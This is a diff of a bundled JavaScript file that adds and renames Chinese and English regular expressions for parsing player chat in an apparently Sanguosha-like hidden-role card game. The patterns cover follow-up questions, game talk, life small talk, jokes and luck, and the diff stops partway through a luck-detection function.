@@ -29516,7 +30450,7 @@ const isBareFact = ({ act, facts = [] }) => act === "ask_fact" && facts.length =
 const UNDONE2 = 5.2;
 const isUndone2 = ({ act, facts = [] }) => act === "report" && facts.length > 0 && facts.every(({ denied }) => denied === true);
 const LESSER2 = [
-	[isBare, BARE],
+	[isBare, BARE2],
 	[isUndone2, UNDONE2],
 	[isOpen4, OPEN],
 	[isVague, VAGUE2],
@@ -29544,7 +30478,7 @@ const leadingTo = (moves, text) => !ASKS_COUNT.test(text) && moves.some(({ act }
 // src/chatter/moves/clause.ts
 const TO_OTHERS = new Set(["strike", "attack", "steal", "give", "use"]);
 const asks = ({ text, asked }) => (asked || ASKS.test(text)) && !NOT_ASKED.test(text) && !ORNAMENT.test(text) && (!TAG_EN.test(text) || ASKS.test(text.replace(TAG_EN, "")));
-const KILLED = /是.{0,6}杀(?:了|的)|被.{1,6}杀(?:了|死)|杀的(?:$|[,.!?吧吗啊])/;
+const KILLED2 = /是.{0,6}杀(?:了|的)|被.{1,6}杀(?:了|死)|杀的(?:$|[,.!?吧吗啊])/;
 const Clause = class {
 	#deeds;
 	constructor(at) {
@@ -29574,7 +30508,7 @@ const Clause = class {
 	#fatal(deed) {
 		const { bySeat } = this.at.moment.scene.table;
 		const dead = typeof deed.to === "number" && bySeat.get(deed.to)?.alive === false;
-		return dead && deed.verb === "strike" && deed.card === "sha" && this.text[deed.start] === "杀" && KILLED.test(this.text) ? { ...deed, verb: "kill", card: null } : deed;
+		return dead && deed.verb === "strike" && deed.card === "sha" && this.text[deed.start] === "杀" && KILLED2.test(this.text) ? { ...deed, verb: "kill", card: null } : deed;
 	}
 	/**
 	 * "他那个桃,4号喂的", "三号少了一格,四号那把火烧的吧", "主公盯着3号,顺一张,砍一刀": what this clause leaves open of whom it was
@@ -29588,6 +30522,8 @@ const Clause = class {
 			return { ...deed, past: false };
 		const seen = NOT_SEEN.test(this.text.slice(0, deed.start)) ? { ...deed, denied: true } : deed;
 		const whole = this.#own(NO_SUCH.test(this.text) ? { ...seen, denied: false, past: true } : seen);
+		if (deed.verb === "die" && deed.to === "open" && deed.by !== "open" && spokenOf !== null && spokenOf !== deed.by)
+			return { ...whole, to: spokenOf };
 		if (deed.to !== "open" || deed.verb === "die" || deed.verb === "low") return whole;
 		const clefted = CLEFT.test(this.text.slice(deed.end));
 		const goesOn = mentions.length === 0 && deed.by === carried;
@@ -29607,7 +30543,7 @@ const Clause = class {
 			if (mine || named) return { ...deed, by: mine ? this.from : "open" };
 		}
 		const by = deed.by === "open" && carried === "open" && deed.start === 0 && /^[a-z]+ed\b/.test(this.text) ? this.from : deed.by;
-		const asserts = this.asked && deed.denied && by === this.from && ASSERTED.test(this.text);
+		const asserts = this.asked && deed.denied && (by === this.from && ASSERTED.test(this.text) || IS_NOT.test(this.text));
 		return { ...deed, by, ...asserts ? { denied: false, past: true } : {} };
 	}
 	/** The role said of him, or of whoever was spoken of, where the clause names nobody whom it is said of. */
@@ -29646,25 +30582,56 @@ const Clause = class {
 };
 const defined = (fields) => Object.fromEntries(Object.entries(fields).filter(([, value]) => value !== void 0));
 
-// src/chatter/moves/ellipsis.ts
-const LEAD = "(?:(?:那|那么|可是|但是|但|不过|所以|嗯|哦|喔|额|呃|诶|哎|等等|ok|so|and|but|well|then|or|also|what about|how about)[ ,]*)*";
+// src/chatter/moves/follow-ups.ts
+const LEAD2 = "(?:(?:那|那么|可是|但是|但|不过|所以|嗯+|哦|喔|额|呃|诶|哎|等等|哈+|啧+|ok|okay|so|and|but|well|then|or|also|oh|hm+|huh|wait|yeah|yea|lol|lmao|haha+|what about|how about)[ ,]*)*";
+const alone2 = (...words) => new RegExp(`^${LEAD2}(?:${words.join("|")})$`);
+const TAIL = /(?:[ ,]+(?:lol|lmao|lmfao|haha\w*|tho|though|bro|dude|man|exactly|again|pls|please|huh|buddy|pal|mate|my friend|if i may ask))+$/;
+const plainly = (text) => text.replace(TAIL, "");
+const YOU6 = "(?:你|您)?";
+const U = "(?:you|u|ya)";
 const ONLY_SOMEBODY = new RegExp(
-	`^${LEAD}(?:跟|和|对)?[ ]*WHO(?:[ ]*(?:呢|如何|怎么样|咋样|怎样|吗|then|too))?[ .!?]*$`
+	`^${LEAD2}(?:跟|和|对)?[ ]*WHO(?:[ ]*(?:呢|如何|怎么样|咋样|怎样|吗|then|too))?[ .!?]*$`
 );
-const MORE2 = new RegExp(
-	`^${LEAD}(?:还有(?:呢|吗|别的吗|没有?|啥|什么)?|然后(?:呢)?|所以(?:呢)?|接着(?:呢|说)|继续(?:说)?|别的呢|其他(?:人)?呢|就这些?(?:吗|\\?)?|没了\\??|and|what else|anything else|anyone else|and then|go on|more|who else|还有谁|其他人呢|还有(?:别人|其他人?|别的人|谁|可疑的)(?:吗|么|没有?)?|除了(?:他|她|WHO)(?:呢|还有谁|以外呢?|之外呢?)?)$`
+const MORE2 = alone2(
+	"还有(?:呢|吗|别的吗|没有?|啥|什么)?|然后(?:呢)?|所以(?:呢)?|接着(?:呢|说)|继续(?:说)?|别的呢|其他(?:人)?呢|就这些?(?:吗|\\?)?|没了\\??|and|what else|and then|go on|more",
+	"(?:anything|anyone|anybody|who|somebody|someone) else(?: (?:suspicious|sus|fishy|you (?:suspect|doubt)))?",
+	"还有谁(?:可疑|像反?|有问题|不对劲)?(?:不|吗|么|没有?|啊|呢)?|其他人呢|(?:第二|下一|另一)个呢",
+	"还有(?:没有|没)?(?:别人|其[他它]人?|别的人?|谁|可疑的)(?:可疑的?)?(?:怀疑(?:的|对象)?|人选|目标)?(?:的)?(?:人)?(?:吗|么|没有?|不)?",
+	`${YOU6}还(?:怀疑|觉得|防着?|盯着?)谁(?:像反|可疑)?(?:啊|呢)?`,
+	"除了(?:他|她|WHO)(?:以外|之外)?(?:呢|(?:你)?还(?:有谁|有别人|怀疑谁|觉得谁)(?:可疑|像反?|有问题|不对劲|是反)?(?:不|吗|么|没有?|啊|呢)?)?",
+	"(?:any(?:one|body)|who|somebody)? ?(?:besides|other than|apart from|except) (?:him|her|them|that one|WHO)(?:,? who)?"
 );
-const OTHERS3 = /还有谁|除了|其他|别人|别的人|who else|anyone else|else/;
+const OTHERS3 = /还有谁|还(?:怀疑|觉得|防|盯)|除了|其[他它]|别人|别的|(?:第二|下一|另一)个|else|besides|other than|apart from|except/;
 const SHORT_WHY = new RegExp(
-	`^${LEAD}(?:凭什么|凭啥|为什么|为啥|为何|何以见得|何出此言|怎么(?:说|讲|会|就)|什么意思|啥意思|此话怎讲|怎么看出来的?|因为(?:什么|啥)|理由(?:呢)?|证据(?:呢)?|依据(?:呢)?|根据(?:呢)?|有(?:证据|依据|根据|理由)吗|why|why (?:so|that|not|do you (?:think|say) (?:so|that))|how come|how so|based on what|says who|proof|evidence|what do you mean|how do you know)(?:这么说|这么认为|这么觉得|这么想|这样说|是(?:他|她)|啊|呀|呢|吗|的)*$`
+	`^${LEAD2}(?:凭什么|凭啥|为什么|为啥|为何|何以见得|何出此言|怎么(?:说|讲|会|就)|什么意思|啥意思|此话怎讲|怎么看出来的?|因为(?:什么|啥)|理由(?:呢)?|证据(?:呢)?|依据(?:呢)?|根据(?:呢)?|有(?:证据|依据|根据|理由)吗|why|why (?:so|that|not|(?:do|would) ${U} (?:think|say) (?:so|that))|how come|how so|(?:based )?on what(?: (?:basis|grounds))?|says who|(?:any |(?:${U} )?got (?:any |a )?|where'?s (?:the|ur|your) )?(?:proof|evidence|reasons?)|what (?:do|did) ${U} mean(?: by that)?|how (?:do|did|can|could|would) ${U} know(?: that)?|what makes ${U} (?:say|think|believe)(?: (?:that|so|it))?)(?:这么说|这么认为|这么觉得|这么想|这样说|是(?:他|她)|啊|呀|呢|吗|的)*$`
+);
+const ASKED_ON = alone2(
+	`${YOU6}(?:是)?(?:从)?哪(?:里|儿|一?点|方面|个地方)?(?:能)?(?:看(?:得)?出(?:来)?|发现|知道|听(?:来|说))(?:他|她)?(?:的)?`,
+	`${YOU6}(?:是)?(?:怎么|咋)(?:发现|知道|判断|琢磨|想|推|得|猜)(?:出来)?(?:的)`,
+	`${YOU6}(?:是)?(?:从)?(?:啥|什么)时候(?:开始)?(?:就)?(?:看出(?:来)?|发现|觉得|知道|怀疑|盯上|注意(?:到)?|这么(?:想|觉得|看)|的事)?(?:他|她)?(?:的)?(?:了)?`,
+	`${YOU6}(?:这么|这样)?(?:想|觉得|看|认为|怀疑|盯)(?:他|她)?(?:有)?多久了`,
+	`${YOU6}(?:是)?(?:一直|早就|老早就?|一开始就|从头到尾都?|之前就|本来就)(?:都|就)?(?:这么|这样)?(?:想|觉得|认为|看|怀疑|知道)(?:他|她)?(?:的|了)?(?:吗|么|吧|,?还是.{0,9})?`,
+	`${YOU6}(?:是)?(?:刚才?|才|现在才|这会儿才)(?:这么)?(?:看出(?:来)?|发现|觉得|想到|想|知道)(?:的)?(?:吗|么|吧)?`,
+	`(?:你|能不能|能|给我|麻烦|再)*(?:说|讲|聊)(?:得)?(?:具体|详细|清楚|明白|细致?|仔细)(?:一?点儿?|一?些)?`,
+	`(?:你|能不能|能|给我|麻烦|再)*(?:具体|详细|展开|仔细|细)(?:一?点儿?|地)?(?:说说?|讲讲?|聊聊|说一下|讲一下|说来听听)`,
+	"(?:再)?(?:具体|详细)(?:点|一点|些)?(?:呢)?|展开|说来听听|(?:说|讲)点具体的?|说说(?:看|理由|依据)|怎么个(?:说法|可疑法|反法)|(?:比如|例如|譬如)(?:说)?(?:呢)?|举个例(?:子)?",
+	"since when|from when|like what|such as|for (?:example|instance|what reason)|in what way|elaborate|explain|details?|be (?:more )?specific|more specific(?:ally)?|more details?",
+	`(?:can|could|care to|would) ?${U}? ?(?:explain|elaborate|be more specific)(?: that)?`,
+	`what gave (?:it|him|her|them) away|what did (?:he|she|they) do(?: wrong)?`,
+	`how (?:can|could|do|did|would) ${U} (?:tell|figure|guess|see|notice|work that out|figure (?:that|it)(?: out)?)(?: that| it)?`,
+	`when did ${U} (?:notice|see|figure|start (?:thinking|suspecting)|reali[sz]e|think)(?: that| it| so| him| her)?(?: out)?`,
+	`(?:(?:have|did|were) )?${U} (?:always|already) (?:thought|think|knew|know|thinking|suspected)(?: (?:so|that|it))?(?: or.{0,16})?`,
+	`how long (?:have|did) ${U} .{3,16}`
 );
 const SHORT_SURE = new RegExp(
-	`^${LEAD}(?:你|您)?(?:(?:真的?|就|这么)?(?:确定|肯定)(?:吗|么|不)?(?:是(?:他|她))?|真的(?:吗|假的)?|真的是(?:他|她)吗|当真|认真的(?:吗)?|(?:有)?几成把握|多大把握|没(?:看|弄|搞)错吧|不会吧|(?:are )?(?:you )?(?:really )?(?:sure|certain|serious)(?: about that)?|really|for real|how sure(?: are you)?)(?:啊|呀|呢|吗|么)*$`
+	`^${LEAD2}${YOU6}(?:(?:真的?|就|这么|有那么|那么)?(?:确定|肯定)(?:吗|么|不)?(?:是(?:他|她))?|真的(?:吗|假的)?|真的是(?:他|她)吗|当真|认真的(?:吗)?|(?:有)?几成把握|多大把握|没(?:看|弄|搞)错吧|不会吧|(?:有)?多(?:确定|肯定|大(?:的)?把握|有把握)|(?:这话)?(?:保真|靠谱|准|能信)(?:吗|么|不)|(?:敢)?打包票(?:吗|么|不)?|(?:(?:are|r) )?(?:${U} )?(?:really |that |so )?(?:sure|certain|serious|positive)(?: (?:about|bout|of) (?:that|it))?|really|for real|fr|no cap|how (?:sure|certain)(?: (?:are|r) ${U})?)(?:啊|呀|呢|吗|么)*$`
 );
 const VOWED = /^(?:真的?|认真的|当真)(?:啊|呀)?$/;
-const YOU_TOO = new RegExp(`^${LEAD}(?:你|您|阁下|you)(?:自己)?(?:呢|then|too)?$`);
-const SELF_TOO = new RegExp(`^${LEAD}(?:我|me)(?:呢|then)?$`);
-const SAME = new RegExp(`^${LEAD}(?:那|那么)?(?:现在呢|后来呢|now)$`);
+const YOU_TOO = new RegExp(`^${LEAD2}(?:你|您|阁下|${U})(?:自己)?(?:呢|then|too)?$`);
+const SELF_TOO = new RegExp(`^${LEAD2}(?:我|me)(?:呢|then)?$`);
+const SAME = new RegExp(`^${LEAD2}(?:那|那么)?(?:现在呢|后来呢|now)$`);
+
+// src/chatter/moves/ellipsis.ts
 const TAKEN_UP = new Set([
 	"ask_guess",
 	"ask_role",
@@ -29691,6 +30658,14 @@ const filled = (act, exchange, span, about) => {
 		span
 	};
 };
+const FRESH = 2;
+const isTold4 = ({ answered }) => answered !== null && (answered.about !== void 0 || answered.facts.length > 0);
+function asksOn(text, { exchanges, scene }) {
+	const [last] = exchanges;
+	if (last === void 0 || scene.turn - last.turn > FRESH || !isTold4(last)) return false;
+	const core = plainly(text.replace(/[\s.!?~]+$/, ""));
+	return ASKED_ON.test(core) || SHORT_WHY.test(core);
+}
 function referring({ text, span, mentions, moment, asked, told }) {
 	const { exchanges, hearer, from } = moment;
 	const last = exchanges[0];
@@ -29701,16 +30676,20 @@ function referring({ text, span, mentions, moment, asked, told }) {
 		const move = answerTo(awaiting, bare, mentions, span, asked);
 		if (move) return [move];
 	}
-	if (SHORT_SURE.test(bare) && (asked || !VOWED.test(bare)) && (SURE.test(bare) || asked || !AGREE.test(bare)))
+	const core = plainly(bare);
+	if (SHORT_SURE.test(core) && (asked || !VOWED.test(core)) && (SURE.test(core) || asked || !AGREE.test(core)))
 		return [filled("ask_sure", last, span)];
-	if (SHORT_WHY.test(bare)) {
+	if (SHORT_WHY.test(core) || asksOn(bare, moment)) {
 		const doer = told.find(({ by }) => by !== void 0)?.by;
 		if (doer !== void 0) return [{ act: "ask_why", about: doer, facts: told, span }];
 		const act = EVIDENCE.test(bare) && !WHY.test(bare) ? "ask_evidence" : "ask_why";
 		return [filled(act, last, span)];
 	}
-	if (MORE2.test(bare)) {
-		if (OTHERS3.test(bare)) return [{ act: "ask_guess", ...last ? { refersTo: last.id } : {}, span }];
+	const [one] = mentions;
+	const [named, ...others] = mentions.filter(({ kind }) => kind === "seat");
+	const listed = named && others.length === 0 ? `${core.slice(0, named.start)}WHO${core.slice(named.end)}` : core;
+	if (MORE2.test(listed)) {
+		if (OTHERS3.test(listed)) return [{ act: "ask_guess", ...last ? { refersTo: last.id } : {}, span }];
 		if (last?.asked.act === "ask_guess" && last.answered?.move === "guess")
 			return [{ act: "ask_guess", refersTo: last.id, span }];
 		if (!last) return asked || /呢$/.test(bare) ? [{ act: "unclear", span }] : null;
@@ -29726,7 +30705,6 @@ function referring({ text, span, mentions, moment, asked, told }) {
 	if (YOU_TOO.test(bare) && (asked || /呢|too|then/.test(bare)) && hearer !== null) return [youToo(last, hearer, span)];
 	if (SELF_TOO.test(bare) && (asked || /呢|then/.test(bare)))
 		return [{ act: "ask_guess", about: from, ...last ? { refersTo: last.id } : {}, span }];
-	const [one] = mentions;
 	if (one && mentions.length === 1 && one.kind === "seat" && one.seat !== null && one.seat !== from && !asked) {
 		const shape = `${bare.slice(0, one.start)}WHO${bare.slice(one.end)}`;
 		if (/^(?:我(?:猜|觉得|看|投|选|怀疑)|应该(?:是)?|就|肯定是?|是)*WHO(?:吧|呗|没跑|无疑)$/.test(shape))
@@ -29778,13 +30756,252 @@ function answerTo(exchange, bare, mentions, span, asked) {
 	return filled(no ? "refuse" : "agree", exchange, span);
 }
 
+// src/chatter/moves/life/game.ts
+const PASTIME = /(?:教|陪|带|跟|和).{0,6}(?:打|玩)牌|打牌(?:吧|要紧|解闷|散心|都)?|\b(?:day|night|weather|time|mood) for cards\b|玩牌|\b(?:taught|teach|teaching|play(?:ed|ing|s)?|love[ds]?) (?:(?:me|us|him|her|with|to|how|play|these|some) )*cards?(?: (?:games?|actually|too|with))?\b/g;
+const HARD = /\d ?号(?![线楼])|[一二三四五六七八]号(?!线|楼)|主公|反贼|(?<![正应相违])反(?![正应而复过悔省思胃馈对了常])|忠|内奸|身份(?!证)|(?<!招|品|名|车|门|老|大)牌(?![照子坊])|闪(?![婚退])|桃(?!花)|回合|轮到|该你|(?<!高|低|出|流|抽|验|心|脑|贫|吐)血(?![压糖常液管栓脂检型缘汗泪])|残血|丝血|集火|阵营|武将|技能|装备|无懈|决斗|南蛮|万箭|五谷|桃园|火攻|铁索|乐不|贴乐|被乐|兵粮|闪电|连弩|酒杀|判定|摸(?:牌|了.张)|出(?:牌|杀|闪|手(?!术))|拆(?:了|我|他|她|你|掉|牌|光)|顺(?:了?我|走|手牵)|[砍捅]|(?<![我他她我们自])杀(?![猪青毒菌时价])|一刀|补刀|队友|跳(?:忠|反|内)|诸葛连|麒麟|青龙|藤甲|八卦阵|仁王|(?<![上])马(?![上路桶虎后克拉云甲])|刀(?![疤口子])|[弓箭盾甲弩剑戟]|乐(?:了?我|住|没)|观星|拼点|弃|翻面|连环|洛神|[红黑]桃|梅花|方块|距离|改判|空城|[掉回扣]血|奶(?:我|他|她|你|一口)|\b(?:seat ?\d|p\d|rebels?|rebs?|loyal\w*|spy|spies|traitors?|renegades?|hp|peach(?:es)?|dodge[sd]?|slash\w*|duel\w*|dismantle\w*|nullif\w*|lightning|fire attack|crossbow|draw (?:two|pile|phase)|deck|skills?|equip\w*|discard\w*|horses?|armou?r|shield|chain(?:ed|s)?|bows?|swords?|bagua|aoe|barbarians?|arrows?|snatch\w*|negat\w*|negs?|harvest|heal(?:ed|s|ing)? (?!my|from)|redraw\w*|gear|weapons?|judg\w+|roles?|wine|chain reaction|(?:this|such a|what a|look at my) hand|whose turn|my turn|your turn|(?:the|this|that) lord)\b/;
+const SOFT3 = /(?<!被人|吵|骂)打(?:我|你|他|她|谁|死|不(?:动|过|死)|得|掉)|(?:别|再|敢)(?:打|搞|弄|动)(?:我|他|她)|救(?:我|他|她|一|命|人)|保(?:我|他|她|你)|针对|放过|饶|投降|偷袭|背刺|动手(?!术)|对面|这(?:局|把|轮|圈)|[下上](?:局|把|轮|圈)|手里|(?:跟|和)(?:我|你)(?:一队|一伙|一起打|混)|信(?:我|你)|演技|同伙|一伙|可疑|划水|谁赢|赢不|输了|残局|结盟|停手|苟|观望|看(?:看)?(?:情况|场面)|人头|满血|没血|爆发|输出|下一步|模式|再来|军师|亮(?:身份|将|牌)|(?:血|体力)上限|\b(?:this (?:game|round|turn)|(?:next|last) (?:game|round|turn)|(?:this|my|your|bad|good|nice) hand|(?:my|your|a|that|this|the) cards?|hit(?:s|ting)? (?:me|you|him|her)|attack\w*|kill(?:ed|s|ing)? (?:me|you|him|her)|target\w*|spare me|truce|deal\b|team up|trust (?:me|you)|promised|rematch|gg|wp|swing|betray\w*|protect|aim(?:ed|ing)?|go for (?:him|her|me)|come for me|focus (?:him|her|on)|dmg|damage|died on me|save me|heal me|cards?|round \d|turn (?:one|two|\d)|flip|show my|hold back|play this|range|tilt\w*|who bets|i bet|finish (?:him|her|it)|surrender|team|one hp|at one|the next turn|gang up|suspect\w*)\b/;
+const ELSE = /谁.{0,4}(?:我|干的|弄的)|解释(?:一)?下|怎么回事|什么情况|(?:为什么|为啥|凭什么|凭啥|干嘛|怎么|咋).{0,6}(?:打|动|搞|弄|针对|不救|选我)|快(?:点|些)(?!好)|搞快|人呢|挂机|\b(?:why (?:did|do|are|would|'d)? ?(?:you|u)|hurry|go go|your move|last chance|bye|cya|see ya|gotta (?:go|run))\b/;
+const namesGame = (text) => HARD.test(text.replace(PASTIME, " "));
+const mayBeGame = (text) => {
+	const rest = text.replace(PASTIME, " ");
+	return HARD.test(rest) || SOFT3.test(rest) || ELSE.test(rest);
+};
+
+// src/chatter/moves/life/goes-on.ts
+const KINDS8 = [
+	[
+		"leaves",
+		/不(?:说|提|聊)(?:了|这(?:个|些)|它)|换个话题|(?:先|还是|继续)?(?:打牌|玩牌)(?:吧|要紧)|^算了(?!吧)|\b(?:let'?s (?:just )?play|enough about|never ?mind|back to (?:the )?(?:game|cards)|don'?t want to talk)\b|^anyways?\b/
+	],
+	[
+		"better",
+		/好多了|(?<!不)没事了|好转|缓过来|想开了|(?<!不)习惯了|没啥大事|不严重|(?<!没|没有|未)(?:脱离|度过)危险|和好了|\b(?:(?:feel(?:ing)?|doing|much|bit|getting) better|(?:i'?ll|he'?ll|she'?ll|gonna) be (?:fine|ok(?:ay)?|alright)|(?:he|she|it|i)(?:'s|'m| is| am|m|s) (?:fine|ok(?:ay)?|good|alright) now|all good now|made up)\b/
+	],
+	[
+		"asks",
+		/有(?:啥|什么|没有?)(?:好)?(?:招|办法|法子|建议|偏方)|(?:该|我|这可)?(?:咋|怎么)(?:办|跟(?:她|他)|开口|安慰|面对|睡|哄|挽回|还(?:钱|上)|选)|该不该|支(?:个|一)?招|要不要(?:联系|去|找|跟|发|问|辞|说)|(?:给|出)(?:个|点)(?:主意|建议)|\b(?:(?:what|how) (?:should|do|would|can|could) i|any (?:tips?|advice|ideas?|tricks?)|should i (?:text|call|go|tell|ask|quit|say|see)|what would you do)\b/
+	],
+	[
+		"you",
+		/^(?:那)?你们?(?:呢|有过|会|懂)(?:吗|么|没|不)?\??$|你们?(?:有没有|经历过|试过|也?会)(?:过|失|难|疼|想|睡|分|怕).{0,8}(?:吗|么|过|没|不)?\??$|\b(?:what about you|how about you|have you ever|you ever (?:lost|had|been|felt)|ever happened to you|you get that)\b/
+	],
+	[
+		"fears",
+		/(?<![不别莫])怕(?!是|打错)|(?<![别莫])慌|担心|(?<!气氛.{0,2})紧张|没底|发抖|手抖|不安|忐忑|万一.{2}|放心不下|\b(?:scared|worr(?:y|ied|ying)|nervous|anxious|freaking out|terrified|afraid|stop thinking about|what if|shaking|can(?:no|')?t focus)\b/
+	],
+	[
+		"unfair",
+		/没做错|不公平|冤(?!枉)|委屈(?!你|他|她|一下)|又不是我|凭(?:啥|什么).{2}|太过分|憋屈|窝火|\b(?:my fault|didn'?t (?:do anything|deserve)|not fair|unfair|wasn'?t (?:even )?me|so wrong|pisse[sd] me)\b/
+	],
+	[
+		"span",
+		/(?:[一两二三四五六七八九十百半几\d]+)(?:个)?(?:多)?(?:年|个?月|周(?!瑜|泰|仓)|(?<!我.{0,2})岁|星期|礼拜)(?!级|轻|终|薪|底|货)|\b(?:\d+|two|three|four|five|six|seven|eight|nine|ten|twelve|fifteen|twenty) ?(?:years?|yrs?|months?|weeks?|yo)\b|\b(?:he|she|it)(?:'s|s| is| was) (?:only |already |almost |like )?\d\d\b/
+	],
+	[
+		"empty",
+		/没人(?:陪|扑|等|叫|喊|做饭|接|疼|抱|跟我)|空(?:荡|落)|(?:家里|心里|屋里|床).{0,2}空|不习惯|少了(?:个人|什么|它|他|她|一)|\b(?:(?:house|home|room|bed|apartment|feels?) (?:is |feels? |so |really |too )*(?:empty|quiet)|miss(?:ing)? (?:him|her|it|them)|without (?:him|her|them))\b/
+	],
+	[
+		"recalls",
+		/以前|从前|小时候|那时候|(?:[他她]|[爸妈爷奶婆公哥姐]).{0,3}教(?:过|会)?我|教(?:过|会)我|(?:陪|养|带)(?:着|大|过)我|我?(?:还)?记得(?:[他她它]|小|有|那)|生前|在的时候|最爱(?:吃|听|看|喝|跟|在)|聊天记录|照片|(?<!别)舍不得|想(?:他|她|它)(?:了|们)?|梦(?:见|到)|\b(?:used to|taught me|(?:he|she|it|we|they)(?:'d| would| was| were)? always|i remember|remember (?:when|how|him|her)|every (?:day|night) (?:he|she|we)|back when|grew up|raised me|pictures?|photos?|memories)\b/
+	],
+	["thanks", /谢(?!主隆|天|晓|绝)|\b(?:thx|thanks|thank you|ty|tysm|appreciate it|means a lot)\b/]
+];
+const OF_LIFE = /[他她它].{0,3}(?:说|觉得|哭|睡|病|疼|爱|喜欢|回家|回来|离开|删|联系|变了|不理|不回|搬|嫁|娶|结婚|有别人|年纪|身体|住|难受)|人家说|医生|护士|医院|病房|抢救|危险期?(?!距)|老板|领导|房东|公司|同事|家里|心里(?!有数|没底)|难受|难过|想哭|眼泪|哭了|睡(?:着|了|不)|失眠|闷得|崩溃|熬(?:不|着|过)|放不下|回不去|工资|块钱|花了.{0,4}[块千万]|结束了|一个人(?:待|在|过|吃|睡)|\b(?:\d+ (?:bucks|dollars)|doctors?|nurse|hospital|crying|cried|numb|alone|heart(?:broken|ache)?|my (?:boss|landlord|ex|family|parents)|hurts so|feel(?:s|ing)? (?:so |really )?(?:awful|bad|sad|lost|alone|weird|numb)|can'?t (?:eat|sleep|breathe|believe (?:he|she|it'?s))|(?:he|she) (?:said|says|told me|left|loved?|was (?:my|so|the)|is (?:my|all|so)))\b/;
+const NOD = /^(?:嗯+|哦+|噢+|喔+|好+的?|行+|对+|是+的?|哈+|呵+|嘿+|嘻+|草|6+|牛+|赞|顶|来|等等|啊+|[?.!,~]+|ok(?:ay)?|k+|h[am]+|hmm*|lol|lmao|bruh|yes|yeah|yep|no|nah|nope|sure|true|wow|nice|cool|oh|wait|what)[啊呀吧呢哈的了.!?,~ ]*$/;
+const BLAMED = /背.{0,3}锅|锅.{0,3}(?:我|甩)/;
+function goesOnIn(text, topic) {
+	if (NOD.test(text)) return null;
+	if (topic === "work" && BLAMED.test(text)) return "unfair";
+	const kind = KINDS8.find(([, words]) => words.test(text))?.[0];
+	if (kind !== void 0) return kind;
+	if (/你|您|\b(?:you|u|ur)\b/.test(text)) return null;
+	return OF_LIFE.test(text) || whoseIn(text) !== null ? "more" : null;
+}
+
+// src/chatter/moves/life/part.ts
+const BOSS2 = /老板|老大|\bboss\b/;
+const NUMBERED = /\b(?:day|week|month|year|number|season|episode|chapter|part) $/;
+function speaksOfSeat({ text, mentions }, { hearer, from }) {
+	const told = matterIn(text);
+	return mentions.some(
+		({ kind, seat, called, start, end }) => kind === "seat" && !called && seat !== hearer && seat !== from && !(told && start < told.end && end > told.start) && !NUMBERED.test(text.slice(0, start)) && !BOSS2.test(text.slice(start, end))
+	);
+}
+const without2 = (text, { start, end }) => `${text.slice(0, start)} ${text.slice(end)}`;
+const NONE2 = { text: "", asked: false, mentions: [] };
+const uncalled = ({ text, asked, mentions }) => mentions.filter(({ called, kind }) => called && kind === "seat").reduceRight((rest, { start, end }) => `${rest.slice(0, start)} ${rest.slice(end)}`, asked ? `${text}?` : text);
+const isOfHearer = ({ mentions }) => mentions.some(({ kind }) => kind === "you") && mentions.every(({ kind }) => kind !== "self");
+const of2 = (matter, topic, act, parts) => ({
+	life: { matter, trouble: false },
+	act,
+	topic,
+	parts
+});
+
+// src/chatter/moves/life/small-talk.ts
+const JOKE_ASKED = /(?:讲|说|来|整|给).{0,4}(?:笑话|段子|乐子|冷笑话)|(?:笑话|段子)(?:来|讲|说)|谁(?:会|能)?(?:讲|说)(?:个)?笑话|逗(?:我|大家)(?:笑|乐|开心)|\b(?:tell (?:me|us|everyone) (?:a|another|some) (?:\w+ )?jokes?|(?:got|know|have|any(?:one|body)?) (?:\w+ ){0,3}jokes?|make me laugh|crack (?:a|us a) joke|joke,? (?:please|pls|time))\b/;
+const JOKE_MORE = /再(?:来|讲|说|整)(?:一)?(?:个|条|段)?|还有(?:吗|没|别的)|继续|换(?:一)?个|\b(?:another(?: one)?|one more|more|again|next one)\b/;
+const JOKE_MET = /冷|不好笑|好笑|笑|哈|烂|尬|就这|无聊|老掉牙|听过|没听懂|\b(?:l+o+l+|lmao|ha(?:ha)+|heh\w*|terrible|awful|bad|funny|groan|heard that|lame|cringe|good one|not bad|corny)\b/;
+const JOKE_TOLD = /(?:为什么|为啥|为何).{3,30}(?:[?,]|因为).{2,30}(?:哈|笑|狗头)|\b(?:why (?:did|do|does|is|are|was) .{5,60}[?,].{0,4}(?:'?cause|because|cuz|bc|to|so)\b|i have a joke|walks into a bar)/;
+function jokeIn(text, after) {
+	if (JOKE_ASKED.test(text)) return "joke";
+	if (JOKE_TOLD.test(text)) return "joke_told";
+	if (!after) return null;
+	return JOKE_MORE.test(text) && text.length <= 24 ? "joke" : JOKE_MET.test(text) ? "joke_met" : null;
+}
+const BAD_LUCK = /(?:手气|运气|牌运|摸牌运|人品).{0,8}(?:臭|差|烂|背|黑|不行|不好|坏|没了?|凉|拉胯|降头|一言难尽|被偷)|(?:脸|(?<!下)手)(?:真|太|好|这么|也太)?(?:黑|臭)(?!名)|非酋|点(?:儿)?(?:真|太|好)?背|(?:摸|来|抽|起手|一手|手里|全)(?:的|了|上来)?(?:全|都|尽|净)?(?:是)?.{0,3}(?:废牌|垃圾牌?|烂牌|破牌|废纸)|没洗手|倒(?:血)?霉.{0,6}(?:牌|手气|摸)|\b(?:(?:bad|terrible|awful|rotten|worst|shit(?:ty)?|garbage|trash|crap(?:py)?|horrible) (?:luck|draws?|hand|cards|rng)|unlucky|no luck|rng (?:hates|is not)|(?:sick|die|cry|puke).{0,24}this hand|cursed (?:hand|draws?|deck|cards)|jinxed)\b/;
+const GOOD_LUCK = /(?:手气|运气|牌运|人品).{0,5}(?:爆|好|旺|绝|顺|不错|可以|逆天|来了|在线|回来)|欧皇|欧气|天胡|神抽|转运了|走运|一手好牌|好牌.{0,3}(?:来|一手)|\b(?:lucky (?:me|draws?|day|hand)|(?:great|amazing|insane|perfect|god) (?:hand|draws?)(?! (?:you|u))|(?<!who'?s )feeling lucky|luck(?:'s| is)? (?:back|on my side)|on fire today|hot hand)\b/;
+const YOUR_LUCK = /(?:你|您|他|她).{0,4}(?:手气|运气|牌运|欧皇|欧气).{0,6}(?:好|爆|旺|绝|逆天|太|真|强)|你.{0,2}脸(?:真|太|好|这么)?白|(?:你|您)(?:是)?欧皇|\b(?:how lucky (?:are|r) (?:you|u)|(?:you(?:'re|r| are)?|u|ur) (?:so |too |such a |just |pretty )*lucky|your luck|luckiest|lucky (?:bastard|dog|duck|sob))\b/;
+const WISHED = /打成这样|希望|但愿|借|分(?:我|点)|求|保佑|给我|祝|来点|要是|如果|\b(?:hope|wish|need|want|give me|good luck|if|lend)\b/;
+function luckIn(text) {
